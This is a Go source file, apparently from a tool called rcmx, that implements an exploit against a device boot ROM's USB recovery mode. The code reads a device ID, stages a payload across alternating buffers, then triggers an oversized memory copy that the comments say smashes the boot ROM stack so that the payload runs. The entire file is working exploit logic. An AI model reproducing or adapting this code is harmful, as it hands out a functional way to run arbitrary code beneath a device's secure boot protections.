package rcm

import (
	"fmt"

	"github.com/golang/glog"

	"github.com/nxboot/rcmx/pkg/payload"
	"github.com/nxboot/rcmx/pkg/rcmerr"
)

const (
	deviceIDLength = 16
	// Top of the boot ROM stack the trigger copies into.
	stackEnd = 0x40010000
)

type state uint8

const (
	stateClaimed state = iota
	stateIDRead
	stateStaged
	stateTriggered
)

func (s state) String() string {
	switch s {
	case stateClaimed:
		return "claimed"
	case stateIDRead:
		return "id-read"
	case stateStaged:
		return "staged"
	case stateTriggered:
		return "triggered"
	}
	return "UNKNOWN"
}

// deviceIO is what the protocol needs from a claimed device.
type deviceIO interface {
	Read(buf []byte) (int, error)
	Write(buf []byte) (int, error)
	Trigger(length int) error
}

// Handle runs the exploit on a claimed device. It is single use: once
// Execute has started, the device state is unknown whatever the outcome, and
// the device has to be found again.
type Handle struct {
	dev          deviceIO
	consumed     bool
	state        state
	buffer       BufferState
	totalWritten int
}

// Execute runs payload p on the device.
func (h *Handle) Execute(p *payload.Payload) error {
	if h.consumed {
		return fmt.Errorf("%w (state %s)", rcmerr.ErrHandleConsumed, h.state)
	}
	h.consumed = true

	id, err := h.readDeviceID()
	if err != nil {
		return fmt.Errorf("reading device ID: %w", err)
	}
	glog.V(1).Infof("Device ID: %x", id)
	h.advance(stateIDRead)

	if _, err := h.write(p.Data()); err != nil {
		return fmt.Errorf("writing payload: %w", err)
	}
	if err := h.switchToHighBuffer(); err != nil {
		return fmt.Errorf("switching to high buffer: %w", err)
	}
	h.advance(stateStaged)

	// Smash the stack.
	err = h.triggerControlledMemcopy()
	h.advance(stateTriggered)
	return err
}

func (h *Handle) advance(s state) {
	glog.V(1).Infof("RCM %s -> %s", h.state, s)
	h.state = s
}

// readDeviceID must happen before any write, or the device won't accept the
// payload. The ID itself is only informational.
func (h *Handle) readDeviceID() ([]byte, error) {
	buf := make([]byte, deviceIDLength)
	n, err := h.dev.Read(buf)
	if err != nil {
		return nil, err
	}
	return buf[:n], nil
}

// write sends buf in packets, toggling the buffer before each one.
func (h *Handle) write(buf []byte) (int, error) {
	if len(buf) > payload.BuiltMaxLength {
		panic(fmt.Sprintf("write of %#x bytes exceeds %#x", len(buf), payload.BuiltMaxLength))
	}

	written := 0
	for len(buf) > 0 {
		n := min(len(buf), payload.PacketSize)
		h.buffer.Toggle()
		glog.V(2).Infof("Writing %#x bytes, buffer %s (%#08x)", n, h.buffer, h.buffer.Address())
		w, err := h.dev.Write(buf[:n])
		if err != nil {
			return written, err
		}
		written += w
		buf = buf[n:]
	}
	h.totalWritten += written
	return written, nil
}

// switchToHighBuffer pads with an empty packet if needed so that the trigger
// always copies out of the high buffer.
func (h *Handle) switchToHighBuffer() error {
	if h.buffer == BufferHigh {
		return nil
	}
	_, err := h.write(make([]byte, payload.PacketSize))
	return err
}

// triggerControlledMemcopy only succeeds by timing out: a device that jumped
// into the payload stops answering the boot ROM's USB stack.
func (h *Handle) triggerControlledMemcopy() error {
	length := stackEnd - int(h.buffer.Address())
	glog.Infof("Wrote a total of %d bytes, performing the controlled memcopy (%#x bytes)", h.totalWritten, length)

	err := h.dev.Trigger(length)
	if rcmerr.KindOf(err) == rcmerr.Timeout {
		glog.Infof("Device stopped responding, payload is running")
		return nil
	}
	return rcmerr.RCMExpectedErr(err)
}
